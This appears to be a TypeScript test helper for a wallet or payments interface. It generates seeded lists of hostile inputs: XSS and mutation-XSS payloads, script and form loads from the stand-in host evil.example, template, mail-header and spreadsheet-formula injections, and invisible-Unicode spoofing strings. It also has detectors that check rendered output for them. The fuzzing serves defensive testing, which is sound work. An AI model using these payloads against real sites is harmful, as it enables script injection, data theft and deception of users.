import { createSeededRandom } from './attack.ts'

/** A text that a site, token or wallet could send to break out of its place. `markup` marks one that tries elements. */
export type HostileText = { text: string; markup: boolean }

const elements = [
  '<img src=x onerror="hostile()">',
  '<svg onload=hostile()>',
  '<svg><script>hostile()</script></svg>',
  '<script>hostile()</script>',
  '<script src="//evil.example/x.js"></script>',
  '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<iframe src="javascript:hostile()"></iframe>',
  '<a href="javascript:hostile()">Claim</a>',
  '<b data-hostile>bold</b>',
  '<style>* { display: none }</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=code></form>',
  '<input autofocus onfocus=hostile()>',
  '<details open ontoggle=hostile()>',
  '<video><source onerror=hostile()></video>',
  '<audio src=x onerror=hostile()>',
  '<object data="javascript:hostile()"></object>',
  '<embed src="javascript:hostile()">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hostile()>">',
  '<template><img src=x onerror=hostile()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>">',
  '<textarea></textarea><img src=x onerror=hostile()>',
  '<!--><img src=x onerror=hostile()>-->',
  '<![CDATA[<img src=x onerror=hostile()>]]>',
  '<marquee onstart=hostile()>text</marquee>',
  '<div style="position:fixed;inset:0" data-hostile>',
  '<button data-hostile>Reject</button>',
  '<slot data-hostile></slot>',
]
const ways: ((element: string) => string)[] = [
  (element) => element,
  (element) => `"'>${element}`,
  (element) => `</p></div>${element}`,
  (element) => `\`\${0}${element}`,
  (element) => `${element}\u0000`,
  (element) => element.replace('<', '<\u0000'),
  (element) => element.replace(/[a-z]/g, (letter) => letter.toUpperCase()),
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (element) => element.replaceAll('<', '&#x3c;'),
  (element) => element.replaceAll('<', '\\u003c'),
  (element) => `]]>${element}<!--`,
  (element) => `--></script>${element}`,
]
/** Syntax of other places in which a text may stand: templates, URLs, styles, headers of a mail, formats. */
const syntax = [
  ...[
    '{host}',
    '{name} {value}',
    '{{constructor.constructor("hostile()")()}}',
    '$' + '{hostile()}',
    '#{hostile()}',
    '%s%s%n',
  ],
  ...[
    'javascript:hostile()',
    'data:text/html,<script>hostile()</script>',
    'url(//evil.example)',
    '__proto__',
    'toString',
  ],
  ...[
    'Subject\r\nBcc: all@evil.example',
    '\u2028hostile()\u2029',
    '=cmd|"/c calc"!A1',
    '\\u202egnp',
    '\ud800',
    'a\udc00b',
  ],
]

const hiddenCharacter = /[\p{Bidi_Control}\p{Default_Ignorable_Code_Point}]/u
/** Emoji need this one, so a reader loses nothing by it. */
const emojiSelector = 0xfe0f

/** Every character of Unicode that turns the direction of a text, or that a reader does not see. */
const hiddenCharacters = (): string[] => {
  const found: string[] = []
  for (let code = 0; code < 0xe1000; code++) {
    if (code >= 0xd800 && code < 0xe000) continue
    const character = String.fromCodePoint(code)
    if (code !== emojiSelector && hiddenCharacter.test(character)) found.push(character)
  }
  return found
}
/** Between letters of one script, where no script and no emoji needs a joiner. */
const words = [
  (hidden: string) => `Pay${hidden} 5 USDC`,
  (hidden: string) => `invoice${hidden}txt.exe`,
  (hidden: string) => `${hidden}shop.example`,
]

/** `count` different texts, or all of them if there are fewer. The same seed chooses the same ones. */
export const hostileTexts = (count: number, seed: number): HostileText[] => {
  const all = [
    ...elements.flatMap((element) => ways.map((way) => ({ text: way(element), markup: true }))),
    ...syntax.map((text) => ({ text, markup: false })),
    ...hiddenCharacters().flatMap((hidden) => words.map((word) => ({ text: word(hidden), markup: false }))),
  ]
  const { below } = createSeededRandom(seed)
  for (let at = 0; at < Math.min(count, all.length); at++) {
    const other = at + below(all.length - at)
    const [one, two] = [all[at], all[other]]
    if (one && two) [all[at], all[other]] = [two, one]
  }
  return all.slice(0, count)
}

/** The hidden characters that a shown text still has. A card may put a word joiner into an address. */
export const findHidden = (shown: string): string[] =>
  [...shown.replace(/(?<=[0-9a-zA-Z]…)\u2060(?=[0-9a-zA-Z])/g, '')].filter(
    (character) => character !== String.fromCodePoint(emojiSelector) && hiddenCharacter.test(character),
  )

/** The elements and listeners of `hostileTexts` that an element holds. */
export const findMarkup = (root: Element): string[] =>
  allElements(root).flatMap((element) => {
    const names = element.getAttributeNames()
    const isForeign =
      foreignElements.has(element.localName) ||
      names.some((name) => name === 'data-hostile' || name === 'autofocus') ||
      element.getAttribute('href')?.startsWith('javascript:')
    return [...(isForeign ? [element.localName] : []), ...names.filter((name) => name.startsWith('on'))]
  })

/** An element and all that it holds. A test's document would keep the results of each `querySelectorAll`. */
export const allElements = (root: Element): Element[] => [root, ...[...root.children].flatMap(allElements)]

const foreignElements = new Set([
  ...['script', 'img', 'iframe', 'style', 'link', 'base', 'meta', 'form', 'video', 'audio', 'object', 'embed'],
  ...['math', 'template', 'noscript', 'textarea', 'marquee', 'slot'],
])
